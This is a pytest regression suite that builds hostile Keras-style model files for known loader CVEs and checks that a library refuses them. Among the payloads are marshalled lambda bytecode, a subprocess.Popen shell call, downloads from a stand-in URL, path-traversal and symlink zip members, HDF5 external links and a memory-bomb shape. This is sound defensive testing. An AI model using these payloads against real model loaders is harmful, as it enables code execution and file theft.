"""Each published hole of Keras's loaders, as the file that used it: none works here."""

import base64
import contextlib
import json
import marshal
import sys
import zipfile
from pathlib import Path

import h5py
import hostile_files
import numpy as np
import pytest

from multinet import (
    Input,
    Model,
    MultinetError,
    Sequential,
    config,
    layers,
    models,
    saving,
)

#: What must not happen while a file is read: events that Python itself reports.
_WATCHED = (
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.spawn",
    "os.posix_spawn",
    "socket.connect",
    "socket.getaddrinfo",
    "marshal.loads",
    "code.__new__",
    "urllib.Request",
)
_happened: list[str] = []
_watching = [False]


def _watch(event, arguments):
    if not _watching[0]:
        return
    if event in _WATCHED or (event == "open" and "canary" in str(arguments[0])):
        _happened.append(f"{event}{arguments}")


sys.addaudithook(_watch)


@contextlib.contextmanager
def nothing_happens():
    """Assert that no code of a file runs, no process starts, nothing is fetched."""
    _happened.clear()
    _watching[0] = True
    try:
        yield
    finally:
        _watching[0] = False
    assert not _happened


# -- the files -------------------------------------------------------------------------


def bytecode(canary):
    """Return a function that writes to the canary, as Keras writes a lambda."""
    source = f"lambda x: open({str(canary)!r}, 'w').write('evil') and x"
    code = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
    return {"class_name": "__lambda__", "config": {"value": [code, None, None]}}


def lambda_layer(canary):
    """Return a Lambda layer with code."""
    config = {"name": "evil", "function": bytecode(canary), "arguments": {}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": config}


def function(module, name, *arguments):
    """Return a layer of a functional model that is a call of a function."""
    node = {"args": list(arguments), "kwargs": {}}
    described = hostile_files._function(module, name)
    return {**described, "name": "evil", "inbound_nodes": [node]}


def with_layer(path, *more):
    """Write a functional model whose graph has these layers too."""
    x = Input((4,), name="x")
    Model(x, layers.Dense(3, name="dense")(x)).save(path)
    parts = hostile_files.Parts(path)
    config = parts.config
    config["config"]["layers"] += more
    parts.config = config
    parts.write(path)


def sound(path):
    """Write a sound file, and return its parts."""
    hostile_files.model().save(path)
    return hostile_files.Parts(path)


def old(path, *more):
    """Write a `.h5` file as Keras 2 did, with these layers too."""
    dense = {"name": "dense", "units": 3, "batch_input_shape": [None, 4]}
    found = [{"class_name": "Dense", "config": dense}, *more]
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": found}}
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = [b"dense"]
        group = weights.create_group("dense")
        group.attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
        group["dense/kernel:0"] = np.zeros((4, 3), "float32")
        group["dense/bias:0"] = np.zeros(3, "float32")


def a_lambda(folder, canary):
    """Code in a Lambda layer runs when it is built or called."""
    parts = sound(folder / "m.keras")
    config = parts.config
    config["config"]["layers"].append({**lambda_layer(canary), "registered_name": None})
    parts.config = config
    parts.write(folder / "m.keras")


def a_lambda_in_h5(folder, canary):
    """In the `.h5` format safe_mode was not looked at."""
    code = bytecode(canary)["config"]["value"]
    layer = {"name": "evil", "function": code, "function_type": "lambda"}
    old(folder / "m.h5", {"class_name": "Lambda", "config": layer})


def a_download_that_unpacks(folder, canary):
    """A downloaded archive of another's making is unpacked by `get_file`."""
    url = "http://127.0.0.1:9/evil.tar"
    with_layer(folder / "m.keras", function("keras.utils", "get_file", "evil", url))


def any_function(folder, canary):
    """A graph calls a function of any module."""
    command = ["sh", "-c", f"echo evil > {canary}"]
    with_layer(folder / "m.keras", function("subprocess", "Popen", command))


def own_functions(folder, canary):
    """A graph fetches a second file with Keras's own functions, and loads it."""
    fetch = function("keras.utils", "get_file", "m", "http://127.0.0.1:9/m.keras")
    load = function("keras.saving", "load_model", str(canary), None, True, False)
    with_layer(folder / "m.keras", fetch, load)


def the_switch(folder, canary):
    """A graph turns safety off by a function, then comes the code."""
    switch = function("keras.config", "enable_unsafe_deserialization")
    with_layer(folder / "m.keras", switch, lambda_layer(canary))


def members_outside(folder, canary):
    """Members of an archive lead out of the folder: by their names, by a link."""
    parts = sound(folder / "m.keras")
    link = zipfile.ZipInfo("assets/a")
    link.external_attr = 0o120777 << 16
    parts.more += [
        (link, str(canary.parent).encode()),
        (zipfile.ZipInfo("assets/a/canary.h5"), b"evil"),
        (zipfile.ZipInfo(f"assets/{'d/' * 2000}../../{canary.name}"), b"evil"),
    ]
    parts.write(folder / "m.keras")


def a_vocabulary_elsewhere(folder, canary):
    """The vocabulary of a lookup is the path of a file, or an address."""
    parts = sound(folder / "m.keras")
    config, layer = parts.layer()
    layer.update(class_name="StringLookup", config={"vocabulary": str(canary)})
    parts.config = config
    parts.write(folder / "m.keras")


def a_saved_model(folder, canary):
    """A layer loads a SavedModel of TensorFlow from a path."""
    parts = sound(folder / "m.keras")
    config, layer = parts.layer()
    layer.update(class_name="TFSMLayer", config={"filepath": str(canary.parent)})
    parts.config = config
    parts.write(folder / "m.keras")


def a_huge_shape(folder, canary):
    """A dataset says that it has more numbers than memory."""
    parts = sound(folder / "m.keras")

    def change(file):
        del file[hostile_files.KERNEL]
        shape, chunks = (10**6, 10**6, 10**6), (16, 16, 16)
        file.create_dataset(hostile_files.KERNEL, shape, "float32", chunks=chunks)

    parts.weights(change)
    parts.write(folder / "m.keras")


def values_elsewhere(folder, canary):
    """A dataset has its values in another file."""
    parts = sound(folder / "m.keras")

    def change(file):
        del file[hostile_files.KERNEL]
        outside = [(str(canary), 0, 48)]
        file.create_dataset(hostile_files.KERNEL, (4, 3), "float32", external=outside)

    parts.weights(change)
    parts.write(folder / "m.keras")


def weights_elsewhere(folder, canary):
    """The weights of a `.h5` file of Keras 2 are a link into another file."""
    old(folder / "m.h5")
    with h5py.File(canary, "a") as file:
        file["model_weights/dense/secret"] = np.full((4, 3), 7, "float32")
    with h5py.File(folder / "m.h5", "a") as file:
        del file["model_weights"]
        file["model_weights"] = h5py.ExternalLink(str(canary), "/model_weights")


RECORD = {
    "CVE-2024-3660": (a_lambda, "Lambda|a lambda"),
    "CVE-2024-55459": (a_download_that_unpacks, "[Uu]nknown"),
    "CVE-2025-1550": (any_function, "[Uu]nknown"),
    "CVE-2025-8747": (own_functions, "[Uu]nknown"),
    "CVE-2025-9905": (a_lambda_in_h5, "Lambda|a lambda"),
    "CVE-2025-9906": (the_switch, "[Uu]nknown"),
    "GHSA-27f4-p4xq-cxg8": (weights_elsewhere, "link"),
    "GHSA-36fq-jgmw-4r9c": (the_switch, "[Uu]nknown"),  # the same under another name
    "CVE-2025-12058": (a_vocabulary_elsewhere, "StringLookup|vocabulary"),
    "CVE-2025-12060": (members_outside, "a link or a device|leaves the archive"),
    "CVE-2026-0897": (a_huge_shape, "would unpack|bytes are in the file|shape"),
    "CVE-2026-1462": (a_saved_model, "TFSMLayer"),
    "CVE-2026-1669": (values_elsewhere, "in another file"),
}


@pytest.fixture
def canary(tmp_path):
    """Return a file outside that nobody may read or change."""
    path = tmp_path / "outside" / "canary.h5"
    path.parent.mkdir()
    with h5py.File(path, "w") as file:
        file["secret"] = np.full((4, 3), 7, "float32")
    return path


def files(folder):
    """Return the bytes of all files in a folder, links not followed."""
    found = (path for path in folder.rglob("*") if path.is_file())
    return {path: path.read_bytes() for path in found}


@pytest.mark.parametrize("entry", RECORD)
def test_a_known_hole_is_closed(entry, tmp_path, canary, registry):
    make, words = RECORD[entry]
    folder = tmp_path / "inside"
    folder.mkdir()
    make(folder, canary)
    (path,) = folder.iterdir()
    model = hostile_files.model()
    weights, before = model.get_weights(), files(tmp_path)
    modules = set(sys.modules)
    with nothing_happens(), pytest.raises(MultinetError, match=words):
        saving.load_model(path)
    with nothing_happens(), contextlib.suppress(MultinetError):
        model.load_weights(path)  # the weights alone may be sound
    changed = [np.any(w == 7) for w in model.get_weights()]
    assert not any(changed), "what the canary holds"
    if entry in ("CVE-2026-0897", "CVE-2026-1669", "GHSA-27f4-p4xq-cxg8"):
        for have, want in zip(model.get_weights(), weights, strict=True):
            assert np.array_equal(have, want)
    assert files(tmp_path) == before
    assert not {"subprocess", "tensorflow"} & (set(sys.modules) - modules)


class Keeper(layers.Layer):
    """A layer with a file of its own."""

    def call(self, inputs):
        return inputs

    def save_assets(self, folder):
        (Path(folder) / "kept.txt").write_text("kept")

    def load_assets(self, folder):
        self.text = (Path(folder) / "kept.txt").read_text()


def test_cve_2026_12479_names_of_layers_are_no_paths(tmp_path, canary, registry):
    # Assets were written to folders called as the layers are.
    name = f"../../../{canary.parent.name}"
    folder = tmp_path / "inside"
    folder.mkdir()
    path = folder / "m.keras"
    model = Sequential([Input((3,)), Keeper(name="keeper")])
    model.save(path)
    parts = hostile_files.Parts(path)
    parts.members["config.json"] = parts.members["config.json"].replace(
        b'"keeper"', json.dumps(name).encode()
    )
    parts.write(path)
    before = files(tmp_path)
    with nothing_happens(), contextlib.suppress(MultinetError):
        again = saving.load_model(path, custom_objects={"Keeper": Keeper})
        assert again.layers[0].text == "kept"
    assert files(tmp_path) == before


@pytest.mark.parametrize("read", [layers.deserialize, layers.Lambda.from_config])
def test_cve_2026_12481_no_code_outside_a_file_either(read, canary):
    # Outside `load_model` nobody had asked for safety, and the code ran.
    config = lambda_layer(canary)
    config = config["config"] if read == layers.Lambda.from_config else config
    with nothing_happens(), pytest.raises(MultinetError, match="lambda"):
        read(config)(np.ones((1, 4), "float32"))


def test_cve_2026_12481_a_clone_holds_the_function_itself():
    model = Sequential([Input((4,)), layers.Lambda(lambda x: 2 * x)])
    with nothing_happens():
        clone = models.clone_model(model)
    assert clone.layers[0].function is model.layers[0].function


def test_there_is_no_switch_to_turn():
    # CVE-2025-9906 turned that of Keras from within a file.
    with pytest.raises(MultinetError, match="custom_objects"):
        config.enable_unsafe_deserialization()
